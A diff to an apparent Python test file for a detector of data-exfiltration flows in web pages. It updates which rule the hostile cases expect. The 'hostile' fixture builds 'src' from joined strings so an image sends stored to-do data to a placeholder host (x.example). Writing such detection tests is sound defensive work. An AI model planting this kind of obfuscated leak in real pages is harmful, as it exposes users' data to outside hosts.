@@ -80,11 +80,13 @@ def test_an_array_element_written_by_index_is_no_member_chosen_at_run_time():
               "flowUi.setValue('todo.items', items); });\n"
               "      items[i + 1 - 1] = item;\n      document.getElementById('l').append(box);\n    });\n  }\n</script>")
     assert "exfil.possible-flow" not in rules(source, ["todo.items"])
-    for key in ("k", "(i, k)"):  # a property name computed at run time, or an index the callback reassigns
+    for key, rule in (("k", "exfil.state-to-url"), ("(i, k)", "exfil.state-to-url"), ("i", "exfil.possible-flow")):
+        # A property name joined from strings is that name (img.src), also as a sequence's value; an
+        # index the callback reassigns is not known.
         hostile = ("<img id=i><script>\n  const img = document.getElementById('i');\n"
                    "  const k = ['s', 'rc'].join('');\n  const v = flowUi.get('todo.items');\n"
                    f"  [1].forEach((x, i) => {{ i = k; img[{key}] = 'https://x.example/?' + v; }});\n</script>")
-        assert "exfil.possible-flow" in rules(hostile, ["todo.items"]), key
+        assert rule in rules(hostile, ["todo.items"]), key
 
 
 def test_open_url_of_a_const_string_is_that_url():
